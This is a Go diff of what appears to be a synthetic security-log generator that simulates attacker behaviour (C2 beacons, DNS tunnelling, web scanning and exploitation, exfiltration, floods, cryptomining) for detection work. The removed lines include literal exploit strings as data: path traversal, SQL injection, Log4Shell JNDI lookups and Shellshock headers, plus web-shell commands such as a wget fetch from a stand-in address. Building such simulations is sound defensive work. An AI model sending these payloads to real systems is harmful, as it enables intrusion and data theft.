-	gap := p.pace(n, 40*time.Millisecond, 25*time.Second)
-	for range n {
-		status := 401
-		if p.chance(2) {
-			status = 302
-		}
-		p.request(from, p.web, "POST", "www."+p.domain, path, "", agent, status, p.spread(300, 1500))
-		p.wait(p.jitter(gap, 60))
-	}
-}
-
-func (p *plan) lateralMovement() {
-	p.moveAround(p.somebody().v4, pick(p.dice, []string{"administrator", "svc-deploy", "helpdesk", p.somebody().user}), "")
-}
-
-// moveAround logs in to one machine after the other.
 func (p *plan) moveAround(from netip.Addr, user, step string) {
-	ways := []struct {
-		technique string
-		service   *service
-	}{{"T1021.002", smbService}, {"T1021.001", rdpService}, {"T1021.006", winrmService}, {"T1021.004", sshService}}
-	way := pick(p.dice, ways)
+	way := pick(p.dice, []struct {
+		technique, protocol string
+	}{{"T1021.002", "smb"}, {"T1021.001", "rdp"}, {"T1021.006", "winrm"}, {"T1021.004", "ssh"}})
 	p.incident(step, "TA0008", way.technique, "T1021", "T1570", "T1078")
-	n := p.size(8, min(40, p.machines()))
-	gap := p.pace(n, 500*time.Millisecond, 3*time.Minute)
-	first := p.below(p.machines())
-	for i := range n {
-		if to := p.machine(first + i); to != from {
-			p.login(from, to, way.service, user, !p.chance(15))
-			p.wait(p.jitter(gap, 50))
+	t := p.tempo(8, min(40, len(p.machines)), 500*time.Millisecond, 3*time.Minute)
+	first := p.below(len(p.machines))
+	for i := range p.turns(t, 50) {
+		if to := p.machines[(first+i)%len(p.machines)]; to != from {
+			p.login(from, to, way.protocol, user, !p.chance(15))
 		}
-	}
-}
-
-// c2Beacon calls home on a port of its own, again and again.
-func (p *plan) c2Beacon() {
-	p.incident("", "TA0011", "T1571", "T1095", "T1071.001", "T1071", "T1573")
-	s := p.somebody()
-	from, home := s.v4, p.outside()
-	if s.v6.IsValid() && p.chance(30) {
-		from, home = s.v6, p.outside6()
-	}
-	port := pick(p.dice, []int{1177, 4444, 5552, 8443, 4443, 9443, 2222, 6666, p.between(1025, 65535), p.between(1025, 65535)})
-	protocol := pick(p.dice, []string{"", "", "ssl", "http"})
-	n := p.size(20, 500)
-	gap := p.pace(n, 4*time.Second, 12*time.Minute)
-	percent := pick(p.dice, []int{0, 5, 10, 20, 37, 50})
-	down := pick(p.dice, []int{0, 0, 10, 60}) // how often nobody is at home
-	for range n {
-		e := p.conn(from, home, port, protocol)
-		switch k := p.below(100); {
-		case k < down && k%2 == 0:
-			p.unanswered(e)
-		case k < down:
-			p.refused(e)
-		case k > 95: // orders
-			p.moved(e, p.spread(1000, 90000), p.spread(5000, 900000), p.delay(100*time.Millisecond, 20*time.Second))
-		default:
-			p.moved(e, p.between(90, 900), p.between(80, 700), p.delay(20*time.Millisecond, 4*time.Second))
-		}
-		p.wait(p.jitter(gap, percent))
-	}
-}
-
-// httpBeacon calls home by web requests that look like those of well-known
-// tools in their default settings.
-func (p *plan) httpBeacon() {
-	p.incident("", "TA0011", "T1071.001", "T1071", "T1571")
-	from, home := p.somebody().v4, p.outside()
-	tool := pick(p.dice, beacons)
-	host := home.String()
-	if p.chance(40) {
-		host = p.badName()
-	}
-	n := p.size(16, 400)
-	gap := p.pace(n, 4*time.Second, 5*time.Minute)
-	percent := pick(p.dice, []int{0, 10, 20, 37, 50})
-	path := pick(p.dice, tool.get)
-	for range n {
-		if p.chance(15) {
-			e := p.request(from, home, "POST", host, tool.post, "id="+strconv.Itoa(p.between(10000, 99999)), tool.agent, 200, p.between(0, 200))
-			p.moved(e, p.spread(300, 90000), p.between(0, 200), p.delay(20*time.Millisecond, time.Second))
-		} else {
-			p.request(from, home, "GET", host, path, "", tool.agent, 200, p.spread(40, 3000))
-		}
-		p.wait(p.jitter(gap, percent))
 	}
 }
 
 // badName is a name that an attacker registered.
 func (p *plan) badName() string {
-	return pick(p.dice, []string{"cdn-", "update-", "api-", "static-", ""}) + pick(p.dice, words) + pick(p.dice, words) + pick(p.dice, []string{".top", ".xyz", ".info", ".site", ".com"})
+	return pick(p.dice, []string{"cdn-", "update-", "api-", "static-", ""}) + pick(p.dice, lists.Words) + pick(p.dice, lists.Words) +
+		pick(p.dice, []string{".top", ".xyz", ".info", ".site", ".com"})
 }
-
-// dnsTunnel carries data in names, as iodine, dnscat2 and scripts do.
-func (p *plan) dnsTunnel() {
-	p.incident("", "TA0011", "T1071.004", "T1572", "T1071", "T1048.003", "T1048", "T1041")
-	from, resolver := p.somebody().v4, p.resolvers[p.below(2)]
-	domain := pick(p.dice, []string{"t.", "ns1.", "d.", ""}) + p.badName()
-	kinds := pick(p.dice, [][]string{{"NULL"}, {"TXT"}, {"TXT", "CNAME", "MX"}, {"CNAME"}, {"A"}})
-	alphabet := pick(p.dice, []string{lowerHex, base32})
-	label, labels := p.between(34, 62), p.between(1, 3)
-	n := p.size(30, 900)
-	gap := p.pace(n, 15*time.Millisecond, 45*time.Second)
-	for range n {
-		name := ""
-		for range labels {
-			name += p.text(label-p.below(4), alphabet) + "."
-		}
-		kind, answer := pick(p.dice, kinds), p.text(p.between(10, 90), alphabet)
-		if kind == "A" {
-			answer = p.outside().String()
-		}
-		e := p.query(from, resolver, name+domain, kind, "NOERROR", answer)
-		if p.chance(3) {
-			e.DNS.ResponseCode, e.DNS.Answers = "SERVFAIL", ""
-		}
-		p.wait(p.jitter(gap, 70))
-	}
-}
-
-// dga looks for its master under names that an algorithm made: nearly all of
-// them do not exist.
-func (p *plan) dga() {
-	p.incident("", "TA0011", "T1568.002", "T1568", "T1071.004")
-	from, resolver := p.somebody().v4, p.resolvers[p.below(2)]
-	tops := pick(p.dice, [][]string{{".com", ".net", ".org", ".info", ".biz"}, {".ru", ".su"}, {".top", ".xyz"}, {".com"}})
-	alphabet := pick(p.dice, []string{letters, letters, alphanums})
-	short := p.between(11, 18)
-	spelled := p.chance(15) // of words, as some families do
-	n := p.size(20, 500)
-	gap := p.pace(n, 30*time.Millisecond, 2*time.Minute)
-	for i := range n {
-		name := p.text(p.between(short, short+6), alphabet)
-		if spelled {
-			name = pick(p.dice, words) + pick(p.dice, words)
-		}
-		name += pick(p.dice, tops)
-		if i == n-1 && p.chance(50) {
-			p.query(from, resolver, name, "A", "NOERROR", p.outside().String())
-			break
-		}
-		p.query(from, resolver, name, "A", "NXDOMAIN", "")
-		p.wait(p.jitter(gap, 60))
-	}
-}
-
-// icmpTunnel carries data in pings.
-func (p *plan) icmpTunnel() {
-	p.incident("", "TA0011", "T1095", "T1572", "T1048.003", "T1048")
-	from, home := p.somebody().v4, p.outside()
-	n := p.size(6, 40)
-	gap := p.pace(n, 2*time.Second, 2*time.Minute)
-	for range n {
-		e := p.conn(from, home, 0, "")
-		e.Transport, e.ConnState = "icmp", "OTH"
-		e.Source.Port = event.Known(8)
-		p.moved(e, p.spread(30000, 9000000), p.spread(9000, 9000000), p.delay(5*time.Second, time.Minute))
-		p.wait(p.jitter(gap, 50))
-	}
-}
-
-// tor leaves by relays of the Tor network, at times after names that only exist
-// within it.
-func (p *plan) tor() {
-	p.incident("", "TA0011", "T1090.003", "T1090", "T1571")
-	s := p.somebody()
-	n := p.size(6, 60)
-	gap := p.pace(n, time.Second, time.Minute)
-	leaks := p.chance(40)
-	for range n {
-		if leaks && p.chance(40) {
-			p.query(s.v4, p.resolvers[0], p.text(56, base32)+".onion", "A", "NXDOMAIN", "")
-		} else {
-			p.moved(p.conn(s.v4, p.outside(), pick(p.dice, []int{9001, 9001, 9001, 9030}), "ssl"), p.spread(3000, 900000), p.spread(5000, 9000000), p.delay(10*time.Second, 10*time.Minute))
-		}
-		p.wait(p.jitter(gap, 60))
-	}
-}
-
-// remoteAccess installs a program that lets others in.
-func (p *plan) remoteAccess() {
-	p.incident("", "TA0011", "T1219", "T1219.002", "T1571")
-	s := p.somebody()
-	tool := pick(p.dice, remoteTools)
-	n := p.size(2, 12)
-	gap := p.pace(2*n, 2*time.Second, 2*time.Minute)
-	for range n {
-		relay := p.outside()
-		p.query(s.v4, p.resolvers[0], tool.relay+strconv.FormatInt(int64(p.below(5000)), 36)+tool.domain, "A", "NOERROR", relay.String())
-		p.wait(p.delay(2*time.Millisecond, 80*time.Millisecond))
-		p.moved(p.conn(s.v4, relay, tool.port, "ssl"), p.spread(3000, 90000000), p.spread(3000, 9000000), p.delay(10*time.Second, time.Hour))
-		p.wait(p.jitter(gap, 60))
-	}
-}
-
-func (p *plan) toolTransfer() { p.fetchTool(p.somebody().v4, "") }
 
 // fetchTool fetches programs with what a system has at hand, mostly from a bare
 // address.
@@ -498,269 +494,25 @@ func (p *plan) fetchTool(to netip.Addr, step string) {
 	if p.chance(15) {
 		host = p.badName()
 	}
-	for range p.between(1, 4) {
-		path := "/" + pick(p.dice, []string{"", "", "a/", "tmp/", "files/"}) + pick(p.dice, payloads)
-		p.request(to, from, "GET", host, path, "", pick(p.dice, downloaders), 200, p.spread(8000, 9000000))
-		p.wait(p.delay(time.Second, 20*time.Second))
-	}
-}
-
-// webAttack looks for weak spots of the website, and goes in if it finds one.
-func (p *plan) webAttack() {
-	attacker := p.outside()
-	p.scanWebsite(attacker)
-	p.rest()
-	p.exploitWebsite(attacker)
-	if p.chance(60) {
-		p.rest()
-		p.useWebShell(attacker)
-	}
-	if p.chance(40) {
-		p.rest()
-		p.fetchTool(p.web, "tool-transfer")
-	}
-}
-
-// scanWebsite asks for one path after the other, out of a list.
-func (p *plan) scanWebsite(from netip.Addr) {
-	p.incident("scan", "TA0043", "T1595.003", "T1595.002", "T1595", "T1190")
-	agent := pick(p.dice, webScanners)
-	if p.chance(40) {
-		agent = pick(p.dice, browsers)
-	}
-	n := p.size(30, 1200)
-	gap := p.pace(n, 5*time.Millisecond, 20*time.Second)
-	for range n {
-		path := "/" + pick(p.dice, scannedPaths) + pick(p.dice, []string{"", "/", ".php", ".bak", ".old", ".zip", "~"})
-		if p.chance(60) {
-			path = "/" + pick(p.dice, words) + strconv.Itoa(p.below(100)) + pick(p.dice, []string{"", "/", ".php", ".asp", ".txt"})
-		}
-		status := pick(p.dice, []int{404, 404, 404, 404, 404, 404, 404, 404, 403, 301, 200})
-		p.request(from, p.web, "GET", "www."+p.domain, path, "", agent, status, p.spread(160, 9000))
-		p.wait(p.jitter(gap, 60))
-	}
-}
-
-func (p *plan) exploitWebsite(from netip.Addr) {
-	p.incident("exploit", "TA0001", "T1190", "T1595.002", "T1595")
-	agent := pick(p.dice, browsers)
-	n := p.size(4, 40)
-	gap := p.pace(n, 200*time.Millisecond, 15*time.Second)
-	kind := pick(p.dice, exploits)
-	for range n {
-		if p.chance(20) {
-			kind = pick(p.dice, exploits)
-		}
-		x := pick(p.dice, kind)
-		ua := agent
-		if x.agent != "" {
-			ua = x.agent
-		}
-		p.request(from, p.web, x.method, "www."+p.domain, x.path, x.query, ua, pick(p.dice, []int{200, 200, 404, 403, 500}), p.spread(200, 20000))
-		p.wait(p.jitter(gap, 60))
-	}
-}
-
-func (p *plan) useWebShell(from netip.Addr) {
-	p.incident("web-shell", "TA0003", "T1505.003", "T1505", "T1190", "T1059")
-	path := pick(p.dice, []string{"/uploads/", "/images/", "/wp-content/uploads/2026/", "/files/", "/tmp/"}) + pick(p.dice, []string{"shell.php", "cmd.php", "c99.php", "up.jsp", "x.aspx", "wso.php", "img.php"})
-	key := pick(p.dice, []string{"cmd", "c", "exec", "command"})
-	agent := pick(p.dice, []string{browsers[0], "curl/8.10.1", "python-requests/2.32.3"})
-	n := p.size(4, 25)
-	gap := p.pace(n, 2*time.Second, 40*time.Second)
-	for range n {
-		p.request(from, p.web, pick(p.dice, []string{"GET", "POST"}), "www."+p.domain, path, key+"="+pick(p.dice, commands), agent, 200, p.spread(20, 9000))
-		p.wait(p.jitter(gap, 60))
-	}
-}
-
-func (p *plan) exfiltration() {
-	from := p.somebody().v4
-	switch k := p.below(10); {
-	case k < 2:
-		p.stealByFTP(from, "")
-	case k < 7:
-		p.stealToCloud(from)
-	default:
-		p.stealOverC2(from)
+	for range p.times(1, 4, time.Second, 20*time.Second) {
+		path := "/" + pick(p.dice, []string{"", "", "a/", "tmp/", "files/"}) + pick(p.dice, lists.Payloads)
+		p.request(to, from, "GET", host, path, "", pick(p.dice, lists.Downloaders), 200, p.spread(8000, 9000000))
 	}
 }
 
 func (p *plan) stealByFTP(from netip.Addr, step string) {
 	p.incident(step, "TA0010", "T1048.003", "T1048", "T1041")
 	to := p.outside()
-	n := p.size(3, 20)
-	gap := p.pace(n, 3*time.Second, time.Minute)
-	for range n {
-		e := p.conn(from, to, 21, "ftp")
-		p.moved(e, p.spread(15e6, 2e9), p.spread(900, 9000), p.delay(4*time.Second, 5*time.Minute))
-		p.wait(p.jitter(gap, 50))
+	for range p.turns(p.tempo(3, 20, 3*time.Second, time.Minute), 50) {
+		p.moves(p.conn(from, to, 21, "ftp"), bytes{15e6, 2e9}, bytes{900, 9000}, 4*time.Second, 5*time.Minute)
 	}
 }
 
-func (p *plan) stealToCloud(from netip.Addr) {
-	p.incident("", "TA0010", "T1567.002", "T1567", "T1048.002", "T1048")
-	to := p.outside()
-	where := pick(p.dice, cloudStores)
-	agent := pick(p.dice, []string{"rclone/v1.68.2", where.agent, pick(p.dice, browsers)})
-	n := p.size(4, 40)
-	gap := p.pace(n, 2*time.Second, 40*time.Second)
-	for range n {
-		e := p.request(from, to, where.method, where.domain, where.path+p.text(14, alphanums), "", agent, 200, 400)
-		e.Destination.Port = event.Known(443)
-		p.moved(e, p.spread(30e6, 1e9), p.between(200, 900), p.delay(2*time.Second, 4*time.Minute))
-		p.wait(p.jitter(gap, 50))
-	}
-}
-
-func (p *plan) stealOverC2(from netip.Addr) {
-	p.incident("", "TA0010", "T1041", "T1048.003", "T1048", "T1571", "T1071.001")
-	to := p.outside()
-	n := p.size(3, 20)
-	gap := p.pace(n, 3*time.Second, time.Minute)
-	port := p.between(1025, 65535)
-	raw := p.chance(50)
-	for range n {
-		if raw {
-			p.moved(p.conn(from, to, port, ""), p.spread(30e6, 2e9), p.spread(900, 90000), p.delay(4*time.Second, 5*time.Minute))
-		} else {
-			e := p.request(from, to, "POST", to.String(), pick(p.dice, []string{"/upload", "/gate.php", "/submit.php", "/api/data"}), "", browsers[0], 200, 100)
-			p.moved(e, p.spread(30e6, 900e6), p.between(60, 300), p.delay(4*time.Second, 5*time.Minute))
-		}
-		p.wait(p.jitter(gap, 50))
-	}
-}
-
-// synFlood opens connections faster than a server can answer.
-func (p *plan) synFlood() {
-	p.incident("", "TA0040", "T1498.001", "T1499.001", "T1498", "T1499")
-	n := p.size(150, 3000)
-	gap := p.pace(n, 200*time.Microsecond, 200*time.Millisecond)
+// botnet draws the addresses that n events of a flood come from.
+func (p *plan) botnet(n int) []netip.Addr {
 	sources := make([]netip.Addr, 1+n/1000)
 	for i := range sources {
 		sources[i] = p.outside()
 	}
-	target, port := p.web, pick(p.dice, []int{80, 443})
-	if p.chance(30) {
-		target, port = p.vpn, 443
-	}
-	for i := range n {
-		p.unanswered(p.conn(sources[i%len(sources)], target, port, ""))
-		p.wait(p.jitter(gap, 90))
-	}
+	return sources
 }
-
-// httpFlood asks the website for work faster than it can do it.
-func (p *plan) httpFlood() {
-	p.incident("", "TA0040", "T1499.002", "T1499", "T1498.001", "T1498", "T1499.003")
-	n := p.size(120, 3000)
-	gap := p.pace(n, 2*time.Millisecond, 300*time.Millisecond)
-	sources := make([]netip.Addr, 1+n/1000)
-	for i := range sources {
-		sources[i] = p.outside()
-	}
-	path, agent := pick(p.dice, []string{"/", "/search", "/products"}), pick(p.dice, browsers)
-	busts := p.chance(50) // past the cache
-	for i := range n {
-		query := ""
-		if busts {
-			query = "q=" + p.text(8, alphanums)
-		}
-		status := 200
-		if i > n/3 && p.chance(70) {
-			status = 503
-		}
-		p.request(sources[i%len(sources)], p.web, "GET", "www."+p.domain, path, query, agent, status, p.spread(200, 30000))
-		p.wait(p.jitter(gap, 90))
-	}
-}
-
-// cryptomining works for somebody else's wallet.
-func (p *plan) cryptomining() {
-	p.incident("", "TA0040", "T1496.001", "T1496", "T1571")
-	s := p.somebody()
-	pool := pick(p.dice, miningPools)
-	home, port := p.outside(), pick(p.dice, []int{3333, 4444, 5555, 7777, 14444, 443})
-	n := p.size(2, 15)
-	gap := p.pace(2*n, 5*time.Second, 3*time.Minute)
-	for range n {
-		p.query(s.v4, p.resolvers[0], pool, "A", "NOERROR", home.String())
-		p.wait(p.delay(2*time.Millisecond, 80*time.Millisecond))
-		p.moved(p.conn(s.v4, home, port, ""), p.spread(2000, 90000), p.spread(4000, 200000), p.delay(30*time.Second, 30*time.Minute))
-		p.wait(p.jitter(gap, 50))
-	}
-}
-
-type webExploit struct{ method, path, query, agent string }
-
-var (
-	commonPorts = []int{21, 22, 23, 25, 53, 80, 88, 110, 111, 119, 135, 137, 139, 143, 161, 179, 389, 427, 443, 444, 445, 465, 513, 514, 515, 543, 544, 548, 554, 587, 631, 636, 646, 873, 902, 990, 993, 995, 1025, 1026, 1027, 1080, 1110, 1433, 1521, 1720, 1723, 1755, 1883, 1900, 2000, 2049, 2121, 2375, 2717, 3000, 3128, 3268, 3306, 3389, 3690, 4899, 5000, 5009, 5051, 5060, 5190, 5357, 5432, 5601, 5631, 5666, 5800, 5900, 5985, 6000, 6379, 6443, 6646, 7001, 7070, 8000, 8008, 8009, 8080, 8081, 8443, 8888, 9000, 9090, 9100, 9200, 9999, 10000, 11211, 27017, 32768, 49152, 49153, 49154, 49155, 50000}
-
-	guessedUsers = []string{"root", "admin", "administrator", "user", "test", "oracle", "postgres", "ubuntu", "git", "backup"}
-
-	// beacons are the default web requests of command-and-control tools.
-	beacons = []struct {
-		get         []string
-		post, agent string
-	}{
-		{[]string{"/pixel.gif", "/__utm.gif", "/ptj", "/j.ad", "/ga.js", "/en_US/all.js", "/activity", "/dpixel", "/cx", "/ca", "/fwlink", "/visit.js", "/load"}, "/submit.php", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"},
-		{[]string{"/admin/get.php", "/news.php", "/login/process.php"}, "/admin/get.php", "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"},
-		{[]string{"/gate.php", "/panel/gate.php", "/api/v2/tasks"}, "/gate.php", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"},
-	}
-
-	remoteTools = []struct {
-		relay, domain string
-		port          int
-	}{
-		{"relay-", ".net.anydesk.com", 7070},
-		{"router", ".teamviewer.com", 5938},
-		{"rs-", ".rustdesk.com", 21116},
-		{"instance-", "-relay.screenconnect.com", 443},
-	}
-
-	payloads    = []string{"update.exe", "svchost.exe", "payload.bin", "beacon.dll", "run.ps1", "stage2.ps1", "install.sh", "xmrig.elf", "agent.exe", "mimi.zip", "nc.exe", "setup.hta", "linux.sh"}
-	downloaders = []string{"CertUtil URL Agent", "Microsoft-CryptoAPI/10.0", "Microsoft BITS/7.8", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1", "curl/8.10.1", "Wget/1.21.4", "python-requests/2.32.3"}
-
-	webScanners  = []string{"gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "feroxbuster/2.10.4", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"}
-	scannedPaths = []string{"admin", "backup", "config", ".git/config", ".env", "phpinfo", "wp-admin", "wp-login", "phpmyadmin", "server-status", "test", "old", "dev", "api", "console", "manager/html", "actuator/env", "db", "dump", "install", "cgi-bin", "private", "upload", "uploads", "logs"}
-
-	exploits = [][]webExploit{
-		{
-			{"GET", "/download", "file=../../../../etc/passwd", ""},
-			{"GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "", ""},
-			{"GET", "/static/../../../../windows/win.ini", "", ""},
-			{"GET", "/view", "page=..%2f..%2f..%2f..%2fetc%2fshadow", ""},
-		},
-		{
-			{"GET", "/products", "id=1' OR '1'='1", ""},
-			{"GET", "/products", "id=-1 UNION SELECT username,password FROM users--", "sqlmap/1.8.11#stable (https://sqlmap.org)"},
-			{"GET", "/products", "id=1%27%20AND%20SLEEP(5)--%20-", "sqlmap/1.8.11#stable (https://sqlmap.org)"},
-			{"GET", "/search", "q=1%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x71,0x7a)--", ""},
-			{"GET", "/search", "q=%27;WAITFOR%20DELAY%20%270:0:5%27--", ""},
-		},
-		{
-			{"GET", "/", "x=${jndi:ldap://198.51.100.7:1389/a}", ""},
-			{"GET", "/", "", "${jndi:ldap://198.51.100.7:1389/Basic/Command}"},
-			{"GET", "/login", "", "${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}"},
-			{"POST", "/api/v1/orders", "ref=$%7bjndi:rmi://198.51.100.9/o%7d", ""},
-		},
-		{
-			{"POST", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "", ""},
-			{"GET", "/index.php", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", ""},
-			{"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", ""},
-			{"GET", "/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", ""},
-			{"GET", "/cgi-bin/status", "", "() { :; }; /bin/bash -c 'id'"},
-		},
-	}
-	commands = []string{"whoami", "id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la", "ipconfig%20/all", "net%20user", "ps%20aux", "wget%20http://198.51.100.7/x.sh", "tasklist"}
-
-	cloudStores = []struct{ method, domain, path, agent string }{
-		{"POST", "gfs270n071.userstorage.mega.co.nz", "/ul/", "MEGAcmd/1.7.0"},
-		{"POST", "content.dropboxapi.com", "/2/files/upload/", "OfficialDropboxPythonSDKv2/12.0.2"},
-		{"PUT", "www.googleapis.com", "/upload/drive/v3/files/", "google-api-python-client/2.149.0"},
-		{"PUT", "transfer.sh", "/", "curl/8.10.1"},
-		{"POST", "store3.gofile.io", "/uploadFile/", "python-requests/2.32.3"},
-		{"PUT", "api.pcloud.com", "/uploadfile/", "curl/8.10.1"},
-	}
-	miningPools = []string{"pool.supportxmr.com", "xmr-eu1.nanopool.org", "gulf.moneroocean.stream", "pool.minexmr.com", "eth-eu1.nanopool.org", "xmr.2miners.com"}
-)
